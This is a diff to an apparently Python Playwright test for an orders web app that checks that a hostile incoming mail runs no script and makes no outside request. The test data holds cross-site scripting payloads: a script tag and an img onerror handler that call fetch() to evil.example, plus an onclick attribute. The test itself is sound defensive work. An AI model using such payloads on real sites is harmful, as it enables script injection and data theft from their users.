@@ -11,6 +11,7 @@ from playwright.sync_api import BrowserContext, Page, Request, ViewportSize, exp
 
 from orders.models import MaskType, Store, User
 from orders.placing import Placed
+from orders.secrecy import Secret
 from tests import factories
 
 PAGES = ["sign-in", "list", "search", "order", "settings", "stores", "people", "letter", "write", "nothing"]
@@ -215,7 +216,7 @@ def test_a_hostile_mail_runs_nothing_and_no_request_leaves(
         subject="<script>fetch('https://evil.example/subject')</script>",
         text="<img src=x onerror=\"fetch('https://evil.example/text')\">",
         html=HOSTILE,
-        sender_name="<b onclick=x>Eve</b>",
+        sender_name=Secret.of("<b onclick=x>Eve</b>"),
     )
     requests: list[str] = []
     context.on("request", lambda request: requests.append(_host(request)))
